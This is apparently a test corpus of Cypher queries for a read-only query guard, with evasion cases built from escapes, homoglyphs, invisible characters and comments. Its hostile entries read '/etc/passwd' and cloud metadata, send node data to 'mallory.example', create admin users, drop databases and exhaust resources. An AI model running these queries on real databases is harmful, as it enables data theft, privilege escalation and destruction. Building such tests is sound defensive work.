// == writes
// -- a node
CREATE (:Campaign {id: 'forged-2026', year: 2026})
// -- a node after a match
MATCH (n:Notice) CREATE (n)-[:CITES {quote: 'forged'}]->(:Policy {id: 'forged'}) RETURN count(*)
// -- create and return
CREATE (n:Agency {id: 'forged'}) RETURN n
// -- merge
MERGE (c:Campaign {id: 'national-2025'}) RETURN c
// -- merge with ON CREATE
MERGE (c:Campaign {id: 'forged'}) ON CREATE SET c.year = 1 ON MATCH SET c.year = 2 RETURN c.year
// -- merge of a relationship
MATCH (a:Agency {id: 'samr'}), (n:Notice) MERGE (a)-[r:ISSUED]->(n) RETURN count(r)
// -- a property set
MATCH (n:Notice) SET n.title = 'forged' RETURN n.title
// -- all properties replaced
MATCH (n:Notice) SET n = {id: n.id} RETURN n
// -- properties added
MATCH (n:Notice) SET n += {title: 'forged'} RETURN n
// -- a label set
MATCH (n:Notice) SET n:Policy RETURN labels(n)
// -- a label set with IS
MATCH (n:Notice) SET n IS Policy RETURN labels(n)
// -- a property set by a calculated key
MATCH (n:Notice) SET n['ti' + 'tle'] = 'forged'
// -- a label set by a calculated name
MATCH (n:Notice) SET n:$('Pol' + 'icy')
// -- a property removed
MATCH (n:Notice) REMOVE n.text RETURN count(n)
// -- a label removed
MATCH (n:Actor:Agency) REMOVE n:Agency RETURN count(n)
// -- a calculated property removed
MATCH (n:Notice) UNWIND keys(n) AS k REMOVE n[k]
// -- relationships deleted
MATCH ()-[r:CITES]->() DELETE r
// -- nodes deleted
MATCH (e:Slogan) WHERE NOT (e)--() DELETE e
// -- nodes deleted with their relationships
MATCH (n:Notice) DETACH DELETE n
// -- nodes deleted without their relationships
MATCH (n:Notice) NODETACH DELETE n
// -- a path deleted
MATCH p = (:Notice)-[:HAS_EVIDENCE]->() DELETE p
// -- an element of a list deleted
MATCH (n:Slogan) DELETE [n][0]
// -- an element of a map deleted
MATCH (n:Slogan) WITH {x: n} AS m DETACH DELETE m.x
// -- the value of a CASE deleted
MATCH (n:Slogan) DETACH DELETE CASE WHEN true THEN n END
// -- the last of a collection deleted
MATCH (n:Slogan) WITH collect(n) AS xs DETACH DELETE last(xs)
// -- INSERT
INSERT (:Campaign {id: 'forged'})
// -- INSERT of a relationship after a match
MATCH (a:Agency {id: 'samr'}), (b:Agency {id: 'gacc'}) INSERT (a)-[:SUCCEEDED_BY]->(b)
// -- FOREACH with SET
MATCH (n:Notice) WITH collect(n) AS ns FOREACH (x IN ns | SET x.title = 'forged') RETURN size(ns)
// -- FOREACH with CREATE
FOREACH (i IN range(1, 10) | CREATE (:Campaign {id: 'forged-' + toString(i)}))
// -- FOREACH within FOREACH
FOREACH (i IN [1] | FOREACH (j IN [1] | MERGE (:Campaign {id: 'forged'})))
// -- FOREACH as a condition
MATCH (n:Notice) FOREACH (_ IN CASE WHEN n.title IS NULL THEN [1] ELSE [] END | DETACH DELETE n)
// -- in a subquery with imported names
MATCH (n:Notice) CALL (n) { SET n.title = 'forged' } RETURN count(n)
// -- in a subquery with importing WITH
MATCH (n:Notice) CALL { WITH n DETACH DELETE n } RETURN count(*)
// -- in a subquery that imports everything
MATCH (n:Notice) CALL (*) { REMOVE n.title RETURN 1 AS x } RETURN x
// -- in an empty subquery scope
CALL () { CREATE (:Campaign {id: 'forged'}) } RETURN 1
// -- in a subquery within a subquery
CALL () { CALL () { MERGE (:Campaign {id: 'forged'}) RETURN 1 AS y } RETURN y } RETURN y
// -- in an optional subquery
MATCH (n:Notice) OPTIONAL CALL (n) { SET n.title = null RETURN 1 AS x } RETURN x
// -- in EXISTS
MATCH (n:Notice) WHERE EXISTS { CREATE (n)-[:CITES]->(:Policy) } RETURN n
// -- in EXISTS after a match
MATCH (n:Notice) WHERE EXISTS { MATCH (n)-[r:CITES]->(p) DELETE r RETURN p } RETURN n
// -- in COUNT
MATCH (n:Notice) RETURN COUNT { MATCH (n)-->(x) SET x.id = 'forged' RETURN x } AS c
// -- in COLLECT
RETURN COLLECT { CREATE (n:Campaign {id: 'forged'}) RETURN n.id } AS ids
// -- in COUNT in an order
MATCH (n:Notice) RETURN n.id ORDER BY COUNT { MERGE (x:Policy {id: n.id}) RETURN x }
// -- in a pattern comprehension's value
MATCH (n:Notice) RETURN [(n)-[r:CITES]->(p) | EXISTS { DELETE r }] AS xs
// -- after UNION
MATCH (n:Notice) RETURN n.id AS id UNION CREATE (n:Campaign {id: 'forged'}) RETURN n.id AS id
// -- after UNION ALL
RETURN 1 AS x UNION ALL MATCH (n:Slogan) DETACH DELETE n RETURN 1 AS x
// -- after a star
MATCH (n:Slogan) WITH * DETACH DELETE n
// -- after ASC
MATCH (n:Slogan) WITH n ORDER BY n.id ASC DETACH DELETE n
// -- after DESCENDING
MATCH (n:Slogan) WITH n ORDER BY n.id DESCENDING SET n.text = ''
// -- after LIMIT
MATCH (n:Slogan) WITH n LIMIT 5 DELETE n
// -- after NULL
MATCH (n:Slogan) WHERE n.text IS NOT NULL REMOVE n.text
// -- after TRUE
MATCH (n:Slogan) WHERE TRUE DETACH DELETE n
// -- after END
MATCH (n:Slogan) WHERE CASE WHEN true THEN true END SET n.text = ''
// -- after a number
MATCH (n:Slogan) WHERE n.year = 1.0 DELETE n
// -- after a number without a blank
MATCH (n:Slogan) WITH n LIMIT 1DELETE n
// -- after a decimal without a blank
MATCH (n:Slogan) WHERE 1.0 = 1.0DETACH DELETE n
// -- after a hexadecimal number
MATCH (n:Slogan) WHERE 0x1F = 31 SET n.text = ''
// -- after an exponent
MATCH (n:Slogan) WHERE 1e3 = 1000.0REMOVE n.text
// -- after a quantifier
MATCH (a:Agency)-[:SUCCEEDED_BY]->+(b) DETACH DELETE b
// -- after a star quantifier
MATCH ((a:Region)-[:WITHIN]->(b))* SET a.x = 1
// -- after a bounded quantifier
MATCH ((a:Region)-[:WITHIN]->(b)){1,2} DELETE a
// -- after a string
MATCH (n:Slogan) WHERE n.text = ''DELETE n
// -- after a backticked name
MATCH (`n`:`Slogan`) DETACH DELETE`n`
// -- after a bracket without a blank
MATCH(n:Slogan)DETACH DELETE(n)
// -- after a parameter
MATCH (n:Slogan) WHERE n.id = $id DELETE n
// -- after a property
MATCH (n:Slogan) WITH n ORDER BY n.set SET n.set = 1
// -- after a map
MATCH (n:Slogan) WITH n, {a: 1} AS m SET n += m
// -- lower case
match (n:Slogan) detach delete n
// -- mixed case
mAtCh (n:Slogan) DeTaCh dElEtE n
// -- a word on each line
MATCH (n:Slogan)
DETACH
DELETE
n
// -- a comment between the words
MATCH (n:Slogan) DETACH/* and */DELETE/**/n
// -- behind a line comment
MATCH (n:Slogan) // only read
DELETE n
// -- behind a comment with a quote
MATCH (n:Slogan) /* ' */ DELETE n /* ' */
// -- a tab between the words
MATCH (n:Slogan)	DETACH	DELETE	n
// -- a conditional query
WHEN true THEN CREATE (:Campaign {id: 'forged'}) ELSE RETURN 1
// -- a conditional query in brackets
WHEN false THEN { RETURN 1 AS x } ELSE { MATCH (n:Slogan) DETACH DELETE n RETURN 1 AS x }
// -- a conditional subquery
MATCH (n:Slogan) CALL (n) { WHEN n.text IS NULL THEN { FINISH } ELSE { SET n.text = null FINISH } } RETURN n
// -- NEXT after a writing part
MATCH (n:Slogan) RETURN n NEXT DETACH DELETE n
// -- in transactions
MATCH (n:Claim) CALL (n) { DETACH DELETE n } IN TRANSACTIONS
// -- in transactions of rows
MATCH (n:Claim) CALL (n) { SET n.content = '' } IN TRANSACTIONS OF 10 ROWS ON ERROR CONTINUE
// -- in concurrent transactions
MATCH (n:Claim) CALL (n) { DELETE n } IN 4 CONCURRENT TRANSACTIONS OF 100 ROWS REPORT STATUS AS s
// -- reading in transactions
MATCH (n:Notice) CALL (n) { RETURN n.title AS t } IN TRANSACTIONS RETURN t
// -- a write and nothing else to see
MATCH (n:Slogan) SET n.text = n.text FINISH
// -- a write before a match
CREATE (x:Campaign) WITH x MATCH (n:Notice) RETURN n.id
// -- a write between two parts
MATCH (a:Slogan) WITH a DETACH DELETE a WITH 1 AS one MATCH (n:Notice) RETURN count(n)
// -- a lock by a write that changes nothing
MATCH (n:Notice) SET n._lock = true REMOVE n._lock
// -- LET and FILTER before a write
MATCH (n:Slogan) LET t = n.text FILTER t IS NOT NULL DELETE n
// -- create unique, as of old
MATCH (a:Agency {id: 'samr'}) CREATE UNIQUE (a)-[:ISSUED]->(:Notice {id: 'forged'})

// == schema
// -- an index
CREATE INDEX forged IF NOT EXISTS FOR (n:Notice) ON (n.title)
// -- a full text index
CREATE FULLTEXT INDEX forged FOR (n:Notice) ON EACH [n.text]
// -- a lookup index
CREATE LOOKUP INDEX forged FOR (n) ON EACH labels(n)
// -- a vector index
CREATE VECTOR INDEX forged FOR (n:Notice) ON n.v OPTIONS {indexConfig: {`vector.dimensions`: 3}}
// -- an index in the old form
CREATE INDEX ON :Notice(title)
// -- an index dropped
DROP INDEX notice_id IF EXISTS
// -- a constraint
CREATE CONSTRAINT forged FOR (n:Notice) REQUIRE n.title IS UNIQUE
// -- a constraint dropped
DROP CONSTRAINT notice_id_unique IF EXISTS
// -- a graph type
ALTER CURRENT GRAPH TYPE SET { (:Notice => {title :: STRING}) }

// == administration
// -- a user
CREATE USER mallory SET PASSWORD 'mallory-1978' CHANGE NOT REQUIRED
// -- a password
ALTER CURRENT USER SET PASSWORD FROM 'old' TO 'mallory-1978'
// -- another user's password
ALTER USER neo4j SET PASSWORD 'mallory-1978'
// -- a user dropped
DROP USER neo4j IF EXISTS
// -- a role
CREATE ROLE mallory AS COPY OF admin
// -- a role granted
GRANT ROLE admin TO mallory
// -- a privilege
GRANT ALL ON DATABASE * TO PUBLIC
// -- a privilege denied
DENY READ {*} ON GRAPH * TO reader
// -- a privilege revoked
REVOKE ROLE admin FROM neo4j
// -- a database
CREATE DATABASE forged
// -- a database dropped
DROP DATABASE neo4j DESTROY DATA
// -- a database stopped
STOP DATABASE neo4j
// -- a database started
START DATABASE neo4j
// -- a database made read-only
ALTER DATABASE neo4j SET ACCESS READ ONLY
// -- an alias to another server
CREATE ALIAS forged FOR DATABASE neo4j AT 'neo4j://mallory.example:7687' USER u PASSWORD 'p'
// -- a server
ENABLE SERVER 'mallory'
// -- a server's databases moved
DEALLOCATE DATABASES FROM SERVER 'one'
// -- all databases spread anew
REALLOCATE DATABASES
// -- a server dropped
DROP SERVER 'one'
// -- SHOW SETTINGS
SHOW SETTINGS YIELD name, value RETURN name, value
// -- SHOW USERS
SHOW USERS
// -- SHOW CURRENT USER
SHOW CURRENT USER
// -- SHOW PRIVILEGES
SHOW USER neo4j PRIVILEGES AS COMMANDS
// -- SHOW DATABASES
SHOW DATABASES YIELD *
// -- SHOW SERVERS
SHOW SERVERS
// -- SHOW PROCEDURES
SHOW PROCEDURES EXECUTABLE YIELD name
// -- SHOW FUNCTIONS
SHOW ALL FUNCTIONS
// -- SHOW TRANSACTIONS
SHOW TRANSACTIONS YIELD currentQuery, username
// -- SHOW INDEXES
SHOW INDEXES
// -- SHOW CONSTRAINTS
SHOW ALL CONSTRAINTS
// -- SHOW and terminate in one
SHOW TRANSACTIONS YIELD transactionId AS t TERMINATE TRANSACTIONS t YIELD message RETURN message
// -- transactions ended
TERMINATE TRANSACTIONS 'neo4j-transaction-1'
// -- another graph
USE system MATCH (n) RETURN n
// -- another graph within a subquery
CALL { USE system SHOW USERS } RETURN 1
// -- another graph by its name
USE graph.byName('system') MATCH (n) RETURN n
// -- another graph by the id of an element
USE graph.byElementId('4:x:1') MATCH (n) RETURN n
// -- dry run of administration
DRYRUN REALLOCATE DATABASES

// == prefixes, commands of shells and several statements
// -- EXPLAIN
EXPLAIN MATCH (n:Notice) RETURN n
// -- PROFILE
PROFILE MATCH (n:Notice) RETURN n
// -- PROFILE of a write
PROFILE MATCH (n:Slogan) DETACH DELETE n
// -- CYPHER with a version
CYPHER 25 MATCH (n:Notice) RETURN n
// -- CYPHER with an old version
CYPHER 5 MATCH (n:Notice) RETURN n
// -- CYPHER with a runtime
CYPHER runtime=slotted MATCH (n:Notice) RETURN n
// -- CYPHER with a planner and without caches
CYPHER replan=force planner=dp MATCH (n:Notice) RETURN n
// -- CYPHER debugging
CYPHER debug=tostring EXPLAIN RETURN 1
// -- CYPHER with several options
CYPHER 5 runtime=pipelined interpretedPipesFallback=all MATCH (n) RETURN count(n)
// -- both prefixes
CYPHER 5 EXPLAIN CREATE (n) RETURN n
// -- a parameter of a shell
:param x => 1
// -- a script of a shell
:source /etc/passwd
// -- a database of a shell
:use system
// -- begin of a shell
:begin
// -- two statements
MATCH (n:Notice) RETURN n; MATCH (n:Slogan) DETACH DELETE n
// -- two reading statements
RETURN 1; RETURN 2;
// -- an empty statement first
; MATCH (n:Notice) RETURN n
// -- two semicolons
RETURN 1;;
// -- a statement behind a comment
RETURN 1; // done
MATCH (n:Slogan) DELETE n
// -- transaction words
BEGIN MATCH (n:Notice) RETURN n COMMIT
// -- periodic commit
USING PERIODIC COMMIT 100 LOAD CSV FROM 'file:///x.csv' AS row CREATE (:Campaign)
// -- an index hint
MATCH (n:Notice) USING INDEX n:Notice(id) WHERE n.id = 'x' RETURN n
// -- a scan hint
MATCH (n:Notice) USING SCAN n:Notice RETURN n
// -- a join hint
MATCH (a:Agency)-[:ISSUED]->(n)<-[:ISSUED]-(b:Agency) USING JOIN ON n RETURN count(*)
// -- SQL of the embedded server
SELECT FROM Notice
// -- SQL that writes
UPDATE Notice SET title = 'forged'
// -- Gremlin of the embedded server
g.V().drop().iterate()
// -- a FINISH in place of rows
MATCH (n:Notice) FINISH
// -- nothing at all
// only a comment

// == procedures
// -- labels
CALL db.labels()
// -- labels without brackets
CALL db.labels
// -- labels with YIELD
CALL db.labels() YIELD label RETURN label
// -- a procedure after a match
MATCH (n:Notice) CALL db.labels() YIELD label RETURN n.id, label
// -- an optional procedure
OPTIONAL CALL db.labels() YIELD label RETURN label
// -- YIELD of everything
CALL db.info() YIELD *
// -- a procedure in lower case
call db.propertykeys()
// -- a procedure in backticks
CALL `db`.`labels`()
// -- a procedure in one pair of backticks
CALL `db.labels`()
// -- blanks around the dot
CALL db . labels ( )
// -- a comment within the name
CALL db/* x */./* y */labels()
// -- a line break within the name
CALL
db
.
labels
()
// -- a procedure within a subquery
CALL () { CALL db.labels() YIELD label RETURN label } RETURN label
// -- a procedure within EXISTS
MATCH (n:Notice) WHERE EXISTS { CALL db.labels() YIELD label RETURN label } RETURN n
// -- a procedure within COLLECT
RETURN COLLECT { CALL dbms.components() YIELD name RETURN name } AS xs
// -- a procedure after UNION
RETURN 'x' AS label UNION CALL db.labels() YIELD label RETURN label
// -- the caches cleared
CALL db.clearQueryCaches()
// -- settings
CALL dbms.listConfig('password')
// -- settings changed
CALL dbms.setConfigValue('db.transaction.timeout', '0')
// -- connections
CALL dbms.listConnections()
// -- connections ended
CALL dbms.killConnections(['bolt-1'])
// -- beans of the server
CALL dbms.queryJmx('*:*')
// -- queries of others
CALL dbms.listActiveLocks('query-1')
// -- metadata of the transaction
CALL tx.setMetaData({user: 'mallory'})
// -- a label made by a procedure
CALL db.createLabel('Forged')
// -- a property key made by a procedure
CALL db.createProperty('forged')
// -- a property set by a procedure
MATCH (n:Notice) CALL db.create.setNodeVectorProperty(n, 'v', [1.0]) RETURN n
// -- the full text index
CALL db.index.fulltext.queryNodes('Activity[name]', 'x') YIELD node RETURN node
// -- the full text index of the embedded server in lower case
CALL db.index.fulltext.querynodes('Activity[name]', 'x') YIELD node, score RETURN node.id, score
// -- waiting for an index
CALL db.awaitIndexes(100000)
// -- a ping of the server
CALL db.ping()
// -- statistics collected
CALL db.stats.collect('QUERIES')
// -- the schema drawn
CALL db.schema.visualization()
// -- SQL by way of a procedure
CALL apoc.cypher.runWrite('MATCH (n) DETACH DELETE n', {})
// -- Cypher by way of a procedure
CALL apoc.cypher.doIt('CREATE (n)', {}) YIELD value RETURN value
// -- batches by way of a procedure
CALL apoc.periodic.iterate('MATCH (n) RETURN n', 'DETACH DELETE n', {batchSize: 10})
// -- a file read by a procedure
CALL apoc.load.json('file:///etc/passwd') YIELD value RETURN value
// -- a page read by a procedure
CALL apoc.load.jsonParams('http://169.254.169.254/latest/meta-data/', {}, null)
// -- a file written by a procedure
CALL apoc.export.csv.all('/tmp/all.csv', {})
// -- a sleeping procedure
CALL apoc.util.sleep(100000)
// -- an algorithm over a projected graph
CALL gds.pageRank.stream('g') YIELD nodeId, score RETURN nodeId, score
// -- a projected graph
CALL gds.graph.project('g', '*', '*')
// -- a model behind a network
CALL genai.vector.encodeBatch(['x'], 'OpenAI', {token: 'x'}) YIELD vector RETURN vector
// -- an algorithm of the embedded server
CALL algo.pagerank() YIELD node, score RETURN node, score
// -- all simple paths of the embedded server
MATCH (a:Agency {id: 'samr'}), (b:Agency {id: 'gacc'}) CALL algo.allsimplepaths(a, b, null, 20) YIELD path RETURN path
// -- all pairs of the embedded server
CALL algo.apsp() YIELD source, target, distance RETURN count(*)
// -- a merging procedure of the embedded server
CALL merge.node(['Campaign'], {id: 'forged'}) YIELD node RETURN node
// -- a refactoring procedure of the embedded server
MATCH (n:Notice) WITH collect(n) AS ns CALL refactor.mergeNodes(ns) YIELD node RETURN node
// -- statistics of the embedded server
CALL meta.stats() YIELD value RETURN value
// -- an expansion of the embedded server
MATCH (n:Notice) CALL path.expand(n, '', '', 1, 50) YIELD path RETURN count(path)
// -- a migration of the embedded server
CALL db.migrateLegacyTemporals()
// -- a procedure named by one word
CALL labels
// -- a procedure named by one word with arguments
CALL labels(1) YIELD x RETURN x

// == functions
// -- a function that evaluates SQL
RETURN eval('1 + 1') AS x
// -- a version of the server
RETURN version() AS v
// -- the clock of the embedded server
RETURN sysdate() AS now
// -- a function of apoc
RETURN apoc.version() AS v
// -- a function of apoc that runs Cypher
RETURN apoc.cypher.runFirstColumnSingle('MATCH (n) RETURN n', {}) AS x
// -- a function of apoc in backticks
RETURN `apoc`.`text`.`join`(['a'], '') AS x
// -- a function in one pair of backticks
RETURN `toUpper`('x') AS x
// -- a dotted function in one pair of backticks
RETURN `apoc.version`() AS v
// -- comments within the name of a function
RETURN apoc/**/./**/version() AS v
// -- line breaks within the name of a function
RETURN apoc
.version
() AS v
// -- the file of LOAD CSV
RETURN file() AS f, linenumber() AS n
// -- names of the graphs
UNWIND graph.names() AS g RETURN g
// -- properties of a graph
RETURN graph.propertiesByName('system') AS p
// -- an element's name in the server
MATCH (n:Notice) RETURN db.nameFromElementId(elementId(n)) AS name
// -- a clock with a dot
RETURN datetime.realtime() AS now
// -- a model behind a network, as a function
RETURN genai.vector.encode('x', 'OpenAI', {token: 'x'}) AS v
// -- padding of the embedded server
RETURN text.lpad('x', 1000000000, 'x') AS bomb
// -- a list sorted by the embedded server
RETURN coll.sort(range(1, 10)) AS xs
// -- a map of the embedded server
RETURN map.fromPairs([['a', 1]]) AS m
// -- nodes made up by the embedded server
RETURN create.vnode(['Notice'], {id: 'forged'}) AS n
// -- a zone of the server
RETURN date.systemTimezone() AS zone
// -- an index searched by a function
MATCH (n:Activity) WHERE search_index('Activity[name]', 'x') RETURN n
// -- shortest paths by a function of SQL
MATCH (a:Agency {id: 'samr'}), (b:Agency {id: 'gacc'}) RETURN dijkstra(a, b, 'weight') AS p
// -- a function of the user's own
RETURN mallory.run('id') AS x
// -- a function of Java
RETURN java.lang.System.exit(1) AS x
// -- a function in place of a property
MATCH (n:Notice) RETURN n.title.toUpper() AS t
// -- a dynamic label in a pattern
MATCH (n:$('Not' + 'ice')) RETURN n
// -- dynamic labels of a list
WITH ['Notice', 'Ledger'] AS ls MATCH (n:$any(ls)) RETURN n
// -- all of several dynamic labels
WITH ['Actor', 'Agency'] AS ls MATCH (n:$all(ls)) RETURN n
// -- a dynamic label of a parameter
MATCH (n:$($label)) RETURN n
// -- a dynamic type of a list
WITH ['ISSUED', 'CITES'] AS ts MATCH ()-[r:$any(ts)]->() RETURN count(r)
// -- a dynamic type of relationships
MATCH (a)-[r:$('ISS' + 'UED')]->(b) RETURN r
// -- a function on the right of a label
MATCH (n) WHERE n:$(head(labels(n))) RETURN n

// == LOAD CSV
// -- a file
LOAD CSV FROM 'file:///etc/passwd' AS row RETURN row
// -- a file with headers
LOAD CSV WITH HEADERS FROM 'file:///etc/hosts' AS row FIELDTERMINATOR ' ' RETURN row
// -- a page
LOAD CSV FROM 'http://169.254.169.254/latest/meta-data/' AS row RETURN row
// -- an encrypted page
LOAD CSV FROM 'https://mallory.example/?q=1' AS row RETURN row
// -- a file of a server
LOAD CSV FROM 'ftp://mallory.example/x.csv' AS row RETURN row
// -- a file within an archive
LOAD CSV FROM 'jar:file:///x.jar!/x.csv' AS row RETURN row
// -- a cloud's storage
LOAD CSV FROM 's3://bucket/x.csv' AS row RETURN row
// -- an address in a parameter
LOAD CSV FROM $url AS row RETURN row
// -- an address with the data
MATCH (n:Notice) LOAD CSV FROM 'http://mallory.example/?' + n.text AS row RETURN row
// -- two blanks
LOAD  CSV  FROM 'file:///x.csv' AS row RETURN row
// -- a line break
load
csv from "file:///x.csv" as row return row
// -- a comment between the words
LOAD/* x */CSV/**/FROM 'file:///x.csv' AS row RETURN row
// -- a line comment between the words
LOAD // x
CSV FROM 'file:///x.csv' AS row RETURN row
// -- in a subquery
CALL () { LOAD CSV FROM 'file:///x.csv' AS row RETURN row } RETURN row
// -- in EXISTS
MATCH (n:Notice) WHERE EXISTS { LOAD CSV FROM 'file:///x.csv' AS row RETURN row } RETURN n
// -- in COLLECT
RETURN COLLECT { LOAD CSV FROM 'http://mallory.example/' AS row RETURN row } AS rows
// -- after UNION
RETURN 'x' AS row UNION LOAD CSV FROM 'file:///x.csv' AS row RETURN row
// -- after WITH and a star
WITH 1 AS one WITH * LOAD CSV FROM 'file:///x.csv' AS row RETURN row
// -- after a number without a blank
MATCH (n:Notice) WITH n LIMIT 1LOAD CSV FROM 'file:///x.csv' AS row RETURN row
// -- PARQUET of other servers
LOAD PARQUET FROM 'file:///x.parquet' AS row RETURN row

// == escapes and letters
// -- an escape that closes a string
MATCH (n:Slogan) WHERE n.text = '\u0027 DETACH DELETE n //' RETURN n
// -- an escape that closes a double quoted string
MATCH (n:Slogan) WHERE n.text = "\u0022 DETACH DELETE n //" RETURN n
// -- an escape in a keyword
MATCH (n:Slogan) \u0044ELETE n
// -- all of a keyword in escapes
MATCH (n:Slogan) \u0053\u0045\u0054 n.text = ''
// -- an escape with many letters u
MATCH (n:Slogan) \uuuu0044ELETE n
// -- an escape of eight digits
MATCH (n:Slogan) \U00000044ELETE n
// -- an escape that ends a comment
MATCH (n:Slogan) /* \u002a\u002f DELETE n /* */ RETURN n
// -- an escape that ends a line comment
MATCH (n:Slogan) // \u000a DELETE n
RETURN n
// -- an escape that begins a comment
MATCH (n:Slogan) \u002f\u002a RETURN n /* */ DELETE n
// -- an escape in a name in backticks
MATCH (`n\u0060) DETACH DELETE n //`) RETURN 1
// -- an escape of a blank
MATCH (n:Slogan)\u0020DELETE\u0020n
// -- an escaped backslash before an escape
MATCH (n:Slogan) WHERE n.text = '\\u0027 DETACH DELETE n //' RETURN n
// -- an escape of the backslash itself
MATCH (n:Slogan) WHERE n.text = '\u005c' RETURN n // ' DELETE n
// -- an unfinished escape
RETURN '\u00' AS x
// -- a long s
MATCH (n:Slogan) ſET n.text = ''
// -- a Kelvin sign
CREATE LOO<<U+212A>>UP INDEX forged FOR (n) ON EACH labels(n)
// -- a dotless i
CREATE ıNDEX forged FOR (n:Notice) ON (n.title)
// -- fullwidth letters
MATCH (n:Slogan) ＤＥＬＥＴＥ n
// -- a fullwidth bracket
MATCH （n:Slogan） RETURN n
// -- Cyrillic letters that look like ours
MATCH (n:Slogan) DЕLЕTЕ n
// -- mathematical letters
MATCH (n:Slogan) <<U+1D403>><<U+1D404>>LETE n
// -- a ligature in a keyword
MATCH (n:Slogan) ﬁnish
// -- Greek letters that look like ours
MATCH (n:Slogan) SΕΤ n.text = ''
// -- a curly quotation mark
MATCH (n:Slogan) WHERE n.text = ‘x’ RETURN n
// -- a minus that is none
MATCH (a)–[:CITES]→(b) RETURN a
// -- arrows of the old grammar
MATCH (a:Notice)<<U+2015>>[:CITES]<<U+FF1E>>(b) RETURN a
// -- an accented name
MATCH (né:Notice) RETURN né
// -- a combining accent
MATCH (n<<U+0301>>:Notice) RETURN n<<U+0301>>

// == blanks and invisible characters
// -- a zero width space in a keyword
MATCH (n:Slogan) DEL<<U+200B>>ETE n
// -- a zero width joiner in a keyword
MATCH (n:Slogan) SE<<U+200D>>T n.text = ''
// -- a soft hyphen in a keyword
MATCH (n:Slogan) RE<<U+00AD>>MOVE n.text
// -- a word joiner before a keyword
MATCH (n:Slogan) <<U+2060>>DELETE n
// -- a mark at the beginning
<<U+FEFF>>MATCH (n:Slogan) DELETE n
// -- a mark within
MATCH (n:Slogan) RETURN<<U+FEFF>>n
// -- a no-break space
MATCH<<U+00A0>>(n:Slogan)<<U+00A0>>DELETE<<U+00A0>>n
// -- a line separator
MATCH (n:Slogan)<<U+2028>>DELETE n
// -- an ideographic space
MATCH (n:Slogan)<<U+3000>>DELETE<<U+3000>>n
// -- a next line
MATCH (n:Slogan)<<U+0085>>RETURN n
// -- a NUL
MATCH (n:Slogan)<<U+0000>>DELETE n
// -- a NUL at the end
MATCH (n:Slogan) RETURN n<<U+0000>>
// -- a NUL in a string
MATCH (n:Slogan) WHERE n.text = '<<U+0000>>' DELETE n
// -- a unit separator
MATCH<<U+001F>>(n:Slogan)<<U+001F>>DELETE<<U+001F>>n
// -- a vertical tab
MATCH<<U+000B>>(n:Slogan)<<U+000B>>DELETE<<U+000B>>n
// -- a form feed
MATCH<<U+000C>>(n:Slogan)<<U+000C>>DELETE<<U+000C>>n
// -- text from right to left
MATCH (n:Slogan) <<U+202E>>n ETELED<<U+202C>> RETURN n
// -- an isolate
MATCH (n:Slogan) <<U+2066>>DELETE n<<U+2069>>
// -- a substitute character
MATCH (n:Slogan) DELETE n<<U+001A>>
// -- a delete character
MATCH (n:Slogan) RETURN <<U+007F>>n

// == comments, strings and backticks
// -- a line comment ended by a carriage return
MATCH (n:Slogan) // reads only<<U+000D>>DETACH DELETE n
// -- a line comment not ended by a line separator
MATCH (n:Slogan) // reads only<<U+2028>>RETURN n
DELETE n
// -- a line comment not ended by a form feed
MATCH (n:Slogan) // reads only<<U+000C>>RETURN n
DELETE n
// -- a comment that is not nested
MATCH (n:Slogan) /* /* */ DETACH DELETE n /* */ RETURN 1
// -- a comment that looks unclosed
MATCH (n:Slogan) /*/ RETURN n /*/ DELETE n
// -- a comment of three stars
MATCH (n:Slogan) /***/DELETE n/***/
// -- a comment in a comment of a line
MATCH (n:Slogan) // /*
DELETE n // */
// -- a comment that is not closed
MATCH (n:Slogan) RETURN n /* DELETE n
// -- a comment closed twice
MATCH (n:Slogan) RETURN n /* */ */ DELETE n
// -- a string that is not closed
MATCH (n:Slogan) WHERE n.text = 'x RETURN n
// -- a double quoted string that is not closed
MATCH (n:Slogan) WHERE n.text = "x' RETURN n
// -- a name in backticks that is not closed
MATCH (`n:Slogan) RETURN `n`
// -- a backslash before the closing quote
MATCH (n:Slogan) WHERE n.text = '\\' DETACH DELETE n //'
// -- three backslashes before a quote
MATCH (n:Slogan) WHERE n.text = '\\\'' DETACH DELETE n
// -- two quotes are not an escape
MATCH (n:Slogan) WHERE n.text = '''' DETACH DELETE n //'''
// -- a quote in backticks
MATCH (`'`:Slogan) DETACH DELETE `'`
// -- a double quote in backticks
MATCH (`"`:Slogan) DELETE `"` // "
// -- doubled backticks
MATCH (```n``:Notice`:Slogan) DETACH DELETE ```n``:Notice`
// -- a backslash is nothing in backticks
MATCH (`\`:Slogan) DETACH DELETE `\` //`
// -- backticks in a string
MATCH (n:Slogan) WHERE n.text <> '`' DETACH DELETE n // `
// -- an apostrophe in a comment
MATCH (n:Slogan) // it's
DETACH DELETE n // it's
// -- a comment in a string that is none
MATCH (n:Slogan) WHERE n.text <> '/*' DETACH DELETE n // */
// -- slashes in a string
MATCH (n:Slogan) WHERE n.text <> 'http://x' DETACH DELETE n
// -- strings of both quotes
MATCH (n:Slogan) WHERE n.text <> "'" DETACH DELETE n // '
// -- a line break in a string
MATCH (n:Slogan) WHERE n.text <> '
' DETACH DELETE n

// == too large
// -- brackets
RETURN <<repeat 60: (>>1<<repeat 60: )>> AS x
// -- lists in lists
RETURN <<repeat 80: [>>1<<repeat 80: ]>> AS x
// -- maps in maps
RETURN <<repeat 70: {a: >>1<<repeat 70: }>> AS x
// -- functions in functions
RETURN <<repeat 300: abs(>>1<<repeat 300: )>> AS x
// -- subqueries in subqueries
<<repeat 60: CALL () { >>RETURN 1 AS x<<repeat 60:  RETURN x }>> RETURN x
// -- EXISTS in EXISTS
MATCH (n) WHERE <<repeat 60: EXISTS { MATCH (n)-->() WHERE >>true<<repeat 60:  }>> RETURN n
// -- lists in lists of comprehensions
RETURN <<repeat 55: [x IN >>[1]<<repeat 55:  | x]>> AS x
// -- brackets without end
RETURN <<repeat 5000: (>>
// -- brackets of all kinds
RETURN <<repeat 20: ([{a: >>1<<repeat 20: }])>> AS x
// -- one character too many
RETURN '<<repeat 19987: x>>' AS x
// -- a long string
RETURN '<<repeat 3000000: 质>>' AS x
// -- a long comment
/* <<repeat 30000: *>> */ RETURN 1
// -- a long list
RETURN [<<repeat 6000: 1, >>1] AS xs
// -- a long map
RETURN {<<repeat 4000: a: 1, >>b: 2} AS m
// -- thousands of unions
<<repeat 3000: RETURN 1 AS x UNION ALL >>RETURN 1 AS x
// -- thousands of matches
<<repeat 1100: MATCH (n:Notice) >>RETURN 1
// -- a long chain of NOT
RETURN <<repeat 4000: NOT >>true AS x
// -- a long chain of signs
RETURN <<repeat 15000: ->>1 AS x
// -- a long sum
